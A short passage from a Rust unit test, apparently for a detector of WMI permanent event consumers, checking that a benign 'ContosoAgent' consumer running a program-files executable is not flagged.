            "CommandLineEventConsumer=\"ContosoAgent\"",
            "Perm. Consumer: \ninstance of CommandLineEventConsumer\n{\n\tCommandLineTemplate = \"C:\\\\Program Files\\\\Contoso\\\\agent.exe --event\";\n};\n",
        ),
    ] {
        lacks(&bound(consumer, cause), wmi, consumer);
    }
}
